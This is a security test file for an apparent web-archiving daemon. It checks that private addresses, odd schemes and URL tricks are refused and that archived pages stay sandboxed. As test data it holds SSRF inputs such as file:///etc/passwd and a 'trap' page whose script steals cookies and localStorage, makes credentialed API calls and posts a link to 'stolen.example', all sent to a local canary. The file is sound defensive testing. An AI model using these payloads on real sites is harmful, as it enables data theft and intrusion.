/**
 * What must not be reached, asked for by the command and by archived pages: addresses that are not public in every
 * spelling, and a page made to break out of the archive that keeps it, in a real browser with the user logged in.
 */
import { writeFileSync } from "node:fs"
import { createServer, type Server } from "node:http"
import { join } from "node:path"
import type { Browser, BrowserContext, Page } from "playwright"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { hostileHosts } from "../support/hostileAddresses.ts"
import { launchChromium } from "../support/pictures.ts"
import { ensureBuilt, newHome, removeHome, startDaemon, type RealDaemon } from "../support/realDaemon.ts"

interface Listener {
  readonly port: number
  readonly heard: Array<string>
  readonly close: () => Promise<void>
}

type Answer = (path: string) => { status?: number; headers?: Record<string, string>; body?: string }

const listen = (answer: Answer): Promise<Listener> =>
  new Promise((resolve) => {
    const heard: Array<string> = []
    const server: Server = createServer((request, response) => {
      heard.push(request.url ?? "")
      const { body = "", headers = {}, status = 200 } = answer(request.url ?? "/")
      response.writeHead(status, { "Access-Control-Allow-Origin": "*", ...headers }).end(body)
    })
    const close = () =>
      new Promise<void>((done) => {
        server.close(() => done())
        server.closeAllConnections()
      })
    server.listen(0, () => resolve({ port: (server.address() as { port: number }).port, heard, close }))
  })

/** Reaches for the API, the token, another snapshot, the window around it and the world. */
const trap = (
  api: string,
  other: string,
  canary: string,
) => `<!doctype html><title>trap</title><h1>A trap</h1>
<img src="${canary}/img"><link rel=stylesheet href="${canary}/css"><link rel=prefetch href="${canary}/prefetch"><iframe src="${canary}/frame"></iframe>
<style>@import "${canary}/import"; body { background: url(${canary}/background) }</style><video src="${canary}/video"></video><object data="${canary}/object"></object>
<meta http-equiv=refresh content="0;url=${canary}/refresh"><form id=form action="${canary}/form"><input name=a></form><a id=ping href="#" ping="${canary}/ping">x</a>
<script src="${canary}/script"></script>
<svg><script>document.title = "svg ran"</script><image href="${canary}/svg"/></svg>
<script>
document.title = "ran"
const tell = (what) => { try { new Image().src = "${canary}/told?" + encodeURIComponent(what) } catch {} }
const quiet = (run) => { try { const made = run(); made?.catch?.(() => {}) } catch {} }
tell("ran " + location.href + " " + document.cookie)
for (const path of ["/api/v1/links", "/api/v1/status", "/api/openapi.json", "/"]) quiet(() => fetch("${api}" + path, { credentials: "include" }).then((r) => r.text()).then(tell))
quiet(() => fetch("${api}/api/v1/links", { method: "POST", credentials: "include", mode: "no-cors", body: '{"url":"http://stolen.example/"}', headers: { "content-type": "text/plain" } }))
quiet(() => fetch("${other}").then((r) => r.text()).then(tell))
quiet(() => tell("local " + JSON.stringify(localStorage)))
quiet(() => tell("parent " + parent.document.title + parent.localStorage.length))
quiet(() => tell("opener " + opener.document.title))
quiet(() => navigator.sendBeacon("${canary}/beacon", "x"))
quiet(() => open("${canary}/popup"))
quiet(() => form.submit())
quiet(() => ping.click())
quiet(() => { top.location = "${canary}/top" })
quiet(() => new WebSocket("${canary}/socket".replace("http", "ws")))
quiet(() => navigator.serviceWorker.register("/worker.js"))
</script>`

let daemon: RealDaemon
let secret: Listener
let canary: Listener
let site: Listener
let browser: Browser
let trapText = ""
const home = newHome()

beforeAll(async () => {
  ensureBuilt()
  secret = await listen(() => ({ body: "<h1>inner secret</h1>" }))
  canary = await listen(() => ({ body: "caught" }))
  site = await listen((path) => {
    const [, kind, to] = /^\/(\w+)\?(.*)$/.exec(path) ?? [null, path.slice(1), ""]
    if (kind === "redirect") return { status: 302, headers: { Location: decodeURIComponent(to!) } }
    if (kind === "frame") {
      const headers = { "Content-Type": "text/html; charset=utf-8" }
      return {
        headers,
        body: `<h1>A story around a frame</h1><p>${"Words. ".repeat(50)}</p><iframe src="${decodeURIComponent(to!)}"></iframe>`,
      }
    }
    const disposition = { "Content-Disposition": "attachment" }
    if (kind === "trap")
      return { headers: { "Content-Type": "text/html; charset=utf-8", ...disposition }, body: trapText }
    if (kind === "open") return { headers: { "Content-Type": "text/html; charset=utf-8" }, body: trapText }
    if (kind === "svg")
      return {
        headers: { "Content-Type": "image/svg+xml" },
        body: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>document.documentElement.setAttribute("ran", "1"); new Image().src = "http://127.0.0.1:${canary.port}/svg-file"</script></svg>`,
      }
    return {
      headers: { "Content-Type": "text/html; charset=utf-8" },
      body: "<title>Private diary</title><h1>Private diary</h1><p>Dear diary, nobody else reads this.</p>",
    }
  })
  writeFileSync(
    join(home, "config.json"),
    JSON.stringify({ queue: { perHostGapMillis: 1, perHostSlots: 8 } }),
  )
  daemon = await startDaemon({ home, args: ["--allow-host", `127.0.0.1:${site.port}`] })
  browser = await launchChromium()
})

afterAll(async () => {
  await browser.close()
  await daemon.stop("SIGTERM")
  await Promise.all([secret, canary, site].map(({ close }) => close()))
  removeHome(home)
})

const totalOf = async (): Promise<number> => ((await (await daemon.api("/links")).json()) as any).total

const origin = () => `http://127.0.0.1:${site.port}`

describe("addresses that are not public", () => {
  it(`are refused in ${hostileHosts.length} spellings, and as ends of redirects, with a reason and for good`, async () => {
    const spelled = hostileHosts.map((host, n) => `http://${host}:${secret.port}/form-${n}`)
    const redirected = ["127.0.0.1", "localhost", "2130706433", "[::1]", "[::ffff:127.0.0.1]", "0"].map(
      (host) => `${origin()}/redirect?${encodeURIComponent(`http://${host}:${secret.port}/redirected`)}`,
    )
    const schemes = ["file:///etc/passwd", "ftp://127.0.0.1/", "gopher://127.0.0.1:70/"].map(
      (url) => `${origin()}/redirect?${encodeURIComponent(url)}`,
    )
    const tricks = [
      `http://127.0.0.1:${secret.port}#@${origin().slice(7)}/`,
      `http://127.0.0.1:${secret.port}\\@good.example/`,
    ]
    const urls = [...spelled, ...redirected, ...schemes, ...tricks]
    const added = await daemon.linkseal("add", ...urls, "--wait", "--json")
    const links: ReadonlyArray<any> = added.json.links
    expect(links).toHaveLength(urls.length)
    expect(
      links
        .map((link, n) => [urls[n], link.state, link.failure?.code, link.failure?.retryAt])
        .filter(([, ...rest]) => JSON.stringify(rest) !== '["failed","blocked-address",null]'),
    ).toEqual([])
    for (const { failure } of links) expect(failure.message).toMatch(/^Refused: .{10,}/)
    expect(added.code).toBe(1)
    expect(secret.heard).toEqual([])
  }, 120_000)

  it.each([
    "file:///etc/passwd",
    "ftp://127.0.0.1/",
    "javascript:alert(1)",
    "data:text/html,x",
    "chrome://settings",
    "about:blank",
    "http://",
    "http://[::1",
    "//127.0.0.1/",
    "http://127.0.0.1:99999/",
    "view-source:http://127.0.0.1/",
    "blob:http://127.0.0.1/x",
    "http://good.example@127.0.0.1/user",
    "http://good.example:80@127.0.0.1/port",
  ])(
    // prettier-ignore
    "%s is no address to keep: bad input, nothing is added",
    async (url) => {
      const before = await totalOf()
      const answer = await daemon.api("/links", { method: "POST", body: JSON.stringify({ url }) })
      expect(answer.status).toBe(400)
      expect(((await answer.json()) as any).error.message).toMatch(/\S/)
      expect(await totalOf()).toBe(before)
    },
  )

  it("a frame that leads there is left empty, and the page around it is kept", async () => {
    const url = `${origin()}/frame?${encodeURIComponent(`http://127.0.0.1:${secret.port}/framed`)}`
    const { json } = await daemon.linkseal("add", url, "--wait", "--json")
    expect(json.links[0].state).toBe("archived")
    expect(secret.heard).toEqual([])
  }, 60_000)
})

describe("an archived page that wants out", () => {
  let context: BrowserContext
  let page: Page
  const ids: Record<string, string> = {}

  const keep = async (path: string) => {
    const { json } = await daemon.linkseal("add", `${origin()}${path}`, "--wait", "--json")
    const [link] = json.links
    expect([path, link.state]).toEqual([path, "archived"])
    return link.latest.id as string
  }
  const addressOf = async (snapshot: string, name: string) => {
    const answer = await daemon.api(`/snapshots/${snapshot}/artefacts/${name}`, { redirect: "manual" })
    return answer.headers.get("location")!
  }

  beforeAll(async () => {
    ids["diary"] = await keep("/diary")
    const other = await addressOf(ids["diary"], "page.html")
    trapText = trap(daemon.url, other, `http://127.0.0.1:${canary.port}`)
    ids["trap"] = await keep("/trap")
    ids["svg"] = await keep("/svg")
    context = await browser.newContext()
    page = await context.newPage()
    await page.goto(`${daemon.url}/?token=${daemon.token}`)
    const known = await page.evaluate('fetch("/api/v1/links").then((response) => response.status)')
    expect(known).toBe(200)
  }, 60_000)

  /** Everything has had its time: the network is quiet. */
  const settled = (at: Page) => at.waitForLoadState("networkidle")

  it("does all it wants when it is served plainly, or the tests below would prove nothing", async () => {
    const plain = await context.newPage()
    await plain.goto(`${origin()}/open`).catch(() => undefined)
    await expect.poll(() => canary.heard.length, { timeout: 10_000 }).toBeGreaterThan(5)
    expect(canary.heard.join("\n")).toContain("/told?ran")
    await plain.close()
    canary.heard.length = 0
  }, 30_000)

  it("runs nothing, reads nothing and calls nobody, opened in a window of its own", async () => {
    const opened = await context.newPage()
    const asked: Array<string> = []
    opened.on("requestfinished", (request) => asked.push(request.url()))
    await opened.goto(await addressOf(ids["trap"]!, "original"))
    await settled(opened)
    expect(await opened.title()).toBe("trap")
    expect(opened.url()).toContain("localhost")
    expect(await opened.innerText("h1")).toBe("A trap")
    expect(asked).toHaveLength(1)
    expect(canary.heard).toEqual([])
    expect(
      (await context.cookies(opened.url())).filter(({ domain }) => domain.includes("localhost")),
    ).toEqual([])
    await opened.close()
  })

  it("stays in its frame on our page, which keeps its title, its place and its token", async () => {
    const src = await addressOf(ids["trap"]!, "original")
    const [before, place] = [await page.title(), page.url()]
    await page.evaluate(
      `new Promise((resolve) => { const frame = document.createElement("iframe"); frame.src = ${JSON.stringify(src)}; frame.onload = resolve; document.body.append(frame) })`,
    )
    await settled(page)
    const frame = page.frames().find((each) => each.url().startsWith("http://localhost"))
    expect(await frame?.title()).toBe("trap")
    expect([await page.title(), page.url()]).toEqual([before, place])
    expect(canary.heard).toEqual([])
  })

  it("cannot be framed by anybody else, nor read from there", async () => {
    const foreign = await context.newPage()
    await foreign.goto(`${origin()}/diary`)
    const src = await addressOf(ids["trap"]!, "original")
    await foreign.evaluate(
      `new Promise((resolve) => { const frame = document.createElement("iframe"); frame.src = ${JSON.stringify(src)}; frame.onload = resolve; setTimeout(resolve, 3000); document.body.append(frame) })`,
    )
    const framed = foreign.frames().find((each) => each !== foreign.mainFrame())
    expect(await framed?.title().catch(() => "")).not.toBe("trap")
    for (const url of [src, `${daemon.url}/api/v1/links`, `${daemon.url}/api/v1/snapshots/${ids["diary"]}`]) {
      const read = `fetch(${JSON.stringify(url)}, { credentials: "include" }).then((r) => r.text(), () => "refused")`
      expect(await foreign.evaluate(read)).toBe("refused")
    }
    await foreign.close()
  })

  it("is no more dangerous as a drawing", async () => {
    const opened = await context.newPage()
    await opened.goto(await addressOf(ids["svg"]!, "original"))
    await settled(opened)
    expect(await opened.locator("svg").getAttribute("ran")).toBe(null)
    expect(canary.heard).toEqual([])
    await opened.close()
  })

  it("did not add the link it was told to steal", async () => {
    const { links } = (await (
      await daemon.api(`/links?query=${encodeURIComponent("in:url stolen")}`)
    ).json()) as {
      links: ReadonlyArray<unknown>
    }
    expect(links).toEqual([])
  })
})
